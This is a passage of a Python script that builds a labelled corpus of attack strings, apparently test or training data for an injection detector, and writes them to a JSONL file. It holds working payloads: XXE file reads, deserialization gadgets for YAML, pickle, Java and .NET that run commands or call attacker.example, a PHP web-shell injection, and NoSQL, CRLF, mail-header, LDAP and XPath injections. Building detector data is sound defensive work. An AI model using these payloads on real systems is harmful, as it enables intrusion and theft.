xxe-svg-upload ||| <?xml version="1.0"?><!DOCTYPE svg [<!ENTITY h SYSTEM "file:///etc/hostname">]><svg xmlns="http://www.w3.org/2000/svg"><text x="0" y="20">&h;</text></svg>
yaml-python-apply ||| !!python/object/apply:os.system ["id"]
yaml-python-new-subprocess ||| !!python/object/new:subprocess.check_output [["id"]]
yaml-snakeyaml-scriptengine ||| !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://attacker.example/y.jar"]]]]
pickle-protocol0 ||| cos⟨LF⟩system⟨LF⟩(S'id'⟨LF⟩tR.
pickle-protocol0-base64 ||| Y29zCnN5c3RlbQooUydpZCcKdFIu
jackson-jdbcrowset ||| ["com.sun.rowset.JdbcRowSetImpl",{"dataSourceName":"ldap://attacker.example/obj","autoCommit":true}]
fastjson-type ||| {"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://203.0.113.5:1099/x","autoCommit":true}
xstream-eventhandler ||| <sorted-set><string>a</string><dynamic-proxy><interface>java.lang.Comparable</interface><handler class="java.beans.EventHandler"><target class="java.lang.ProcessBuilder"><command><string>id</string></command></target><action>start</action></handler></dynamic-proxy></sorted-set>
dotnet-jsonnet-objectdataprovider ||| {"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start","MethodParameters":{"$type":"System.Collections.ArrayList, mscorlib","$values":["cmd","/c calc"]},"ObjectInstance":{"$type":"System.Diagnostics.Process, System"}}
php-object-injection ||| O:12:"TicketExport":2:{s:4:"path";s:19:"/var/www/html/x.php";s:4:"body";s:28:"<?php system($_GET['c']); ?>";}
node-serialize-iife ||| {"rce":"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()"}
'''

LIT["nosqli"] = r'''
json-string-ne ||| {"$ne": null}
json-string-gt-empty ||| {"$gt": ""}
json-string-regex-all ||| {"$regex": ".*"}
query-bracket-ne ||| [$ne]=1
where-sq-breakout-true ||| '; return true; var x='
where-or-true ||| ' || '1'=='1
where-sleep ||| 1; sleep(5000)
where-password-regex ||| admin' && this.password.match(/^a.*/) && '1'=='1
where-length-probe ||| admin' && this.password.length > 7 && 'a'=='a
json-where-sleep ||| {"$where": "sleep(5000) || true"}
json-function-sleep ||| {"$expr":{"$function":{"body":"function(){sleep(5000);return true}","args":[],"lang":"js"}}}
json-in-sellers ||| {"$in": ["4412", "4413", "4414", "admin"]}
json-nin-empty ||| {"$nin": []}
json-exists ||| {"$exists": true}
json-or-array ||| [{"seller_id": {"$gt": ""}}, {"role": "admin"}]
aggregate-lookup ||| [{"$lookup":{"from":"users","localField":"seller_id","foreignField":"_id","as":"u"}}]
couchdb-selector ||| {"selector":{"_id":{"$gt":null}}}
where-function-dump ||| '; return this.password.startsWith('a'); var z='
json-where-this ||| {"$where": "this.role == 'admin' || true"}
lucene-exists-password ||| CU-BB OR _exists_:password
lucene-wildcard-all ||| grade:* OR seller.id_number:*
json-string-regex-prefix ||| {"$regex": "^adm", "$options": "i"}
mongo-js-tojson-leak ||| '; return tojson(db.getCollectionNames()) == '' || true; var q='
json-type-check ||| {"$type": 2}
json-elemmatch ||| {"$elemMatch": {"$gt": ""}}
where-while-dos ||| 0; while(true){}
json-not-null ||| {"$not": {"$eq": null}}
'''

LIT["crlf"] = r'''
log-forging-lf ||| CU-BB⟨LF⟩2024-05-31 10:42:01 INFO ticket 90417 paid 9999.00 GBP to seller 4412 (approved by admin)
log-forging-crlf ||| Seán O'Connor⟨CR⟩⟨LF⟩2024-05-31 10:43:12 AUDIT id_check=passed seller=4412 by=supervisor
log-forging-urlencode ||| 90417%0a2024-05-31%2010:44:00%20INFO%20user%20admin%20logged%20in%20from%20203.0.113.9
redirect-set-cookie ||| /tickets%0d%0aSet-Cookie:%20session=attacker-fixed
response-splitting ||| ticket.pdf%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<script>alert(1)</script>
mail-bcc-raw ||| priya@yard.example⟨CR⟩⟨LF⟩Bcc: list@attacker.example
mail-subject-bcc ||| Your ticket 90417%0aBcc:victims@attacker.example
utf8-crlf-truncation ||| /prices%E5%98%8A%E5%98%8DSet-Cookie:%20x=1
redirect-location ||| /dashboard%0d%0aLocation:%20https://attacker.example/
header-xff-injection ||| scale01%0aX-Forwarded-For:%20127.0.0.1
percent-u-crlf ||| lang=en%u000d%u000aSet-Cookie:%20admin=1
double-urlencode-crlf ||| /tickets%250d%250aSet-Cookie:%20sid=attacker
body-injection ||| en-GB%0d%0a%0d%0a<html><body>Price list moved: <a href=https://attacker.example>click</a></body></html>
log-ansi-escape ||| C-12⟨ESC⟩[2J⟨ESC⟩[1;1HAll tickets reconciled
smtp-rcpt-injection ||| accounts@yard.example>⟨CR⟩⟨LF⟩RCPT TO:<victim@attacker.example>
header-te-smuggling ||| x⟨CR⟩⟨LF⟩Transfer-Encoding: chunked
syslog-forging ||| scale01⟨LF⟩<13>May 31 10:42:01 scale01 sshd[123]: Accepted password for root from 203.0.113.4
mail-cc-raw-lf ||| Weekly prices⟨LF⟩Cc: all-customers@attacker.example
mail-content-type-body ||| Ticket receipt⟨CR⟩⟨LF⟩Content-Type: text/html⟨CR⟩⟨LF⟩⟨CR⟩⟨LF⟩<a href="https://attacker.example/pay">Confirm bank details</a>
log-forging-cr-only ||| 90417⟨CR⟩2024-05-31 11:00:00 INFO weighbridge recalibrated OK
header-cookie-raw ||| en⟨CR⟩⟨LF⟩Set-Cookie: role=admin; Path=/
redirect-refresh ||| /tickets%0d%0aRefresh:%200;url=https://attacker.example/
csp-disable ||| x%0d%0aContent-Security-Policy:%20script-src%20*
log-json-forging ||| copper"}⟨LF⟩{"level":"info","msg":"cash payout approved","amount":9999,"user":"admin"}
mail-to-injection ||| Container C-12 full%0d%0aTo:%20everyone@attacker.example
cors-header-injection ||| x%0d%0aAccess-Control-Allow-Origin:%20https://attacker.example
host-header-injection ||| yard.example%0d%0aHost:%20attacker.example
cache-poison-header ||| x%0d%0aX-Forwarded-Host:%20attacker.example
log-forging-urlencode-crlf ||| Kowalski%0d%0a[WARN]%20ID%20check%20skipped%20by%20manager
lf-only-set-cookie ||| /weekly-report%0aSet-Cookie:%20tracking=attacker
'''

LIT["ldap-xpath"] = r'''
ldap-wildcard-close ||| *)(uid=*))(|(uid=*
ldap-and-true ||| admin)(&)
ldap-objectclass-or ||| *)(|(objectClass=*)
ldap-password-attr ||| priya)(|(userPassword=*)
ldap-memberof-admins ||| *)(memberOf=cn=admins,ou=groups,dc=yard,dc=example)
ldap-not-and ||| admin)(!(&(1=0
ldap-blind-prefix ||| operator)(userPassword=a*
ldap-null-comment ||| admin))%00
ldap-cn-wildcard ||| *)(cn=*
ldap-mail-enum ||| *)(mail=*@yard.example
xpath-sq-or ||| ' or '1'='1
xpath-or-empty ||| ' or 1=1 or ''='
xpath-union-all ||| '] | //* | //*['
xpath-name-probe ||| x' or name()='password' or 'x'='y
xpath-count-probe ||| ' and count(/*)=1 and '1'='1
xpath-substring-blind ||| ' or substring(//user[1]/password,1,1)='a' or ''='
xpath-paren-or ||| ') or ('1'='1
xpath-numeric-or ||| 4412 or 1=1
xpath2-doc-oob ||| ' or doc-available(concat('http://attacker.example/',//user[1]/password)) or '
xpath-string-length ||| ' or string-length(//user[position()=1]/password)>5 or '
'''

MARK = {"\u27e8CR\u27e9": "\r", "\u27e8LF\u27e9": "\n", "\u27e8TAB\u27e9": "\t", "\u27e8ESC\u27e9": "\x1b"}


def parse(block):
    rows = []
    for line in block.strip("\n").split("\n"):
        cls, val = line.split(" ||| ", 1)
        for k, v in MARK.items():
            val = val.replace(k, v)
        rows.append((cls.strip(), val))
    return rows


def main():
    here = os.path.dirname(os.path.abspath(__file__))
    out = []
    n = 0
    for cat, target in TARGET.items():
        rows = parse(LIT[cat])
        need = target - len(rows)
        assert need >= 0, (cat, len(rows), target)
        # Template: apply ONE encoding (full URL-encoding) to a hand-written literal
        # that is not already percent-encoded and has no control characters.
        pool = [r for r in rows if "%" not in r[1] and not any(c in r[1] for c in "\r\n\t\x1b")]
        for cls, val in rng.sample(pool, need):
            rows.append((cls + "+urlencode", urllib.parse.quote(val, safe="")))
        for cls, val in rows:
            n += 1
            out.append(json.dumps({"id": "%s-%05d" % (PREFIX, n), "category": cat, "class": cls,
                                   "label": "attack", "value": val}, ensure_ascii=False))
    with open(os.path.join(here, "attacks.jsonl"), "w", encoding="utf-8", newline="\n") as f:
        f.write("\n".join(out) + "\n")


if __name__ == "__main__":
    main()
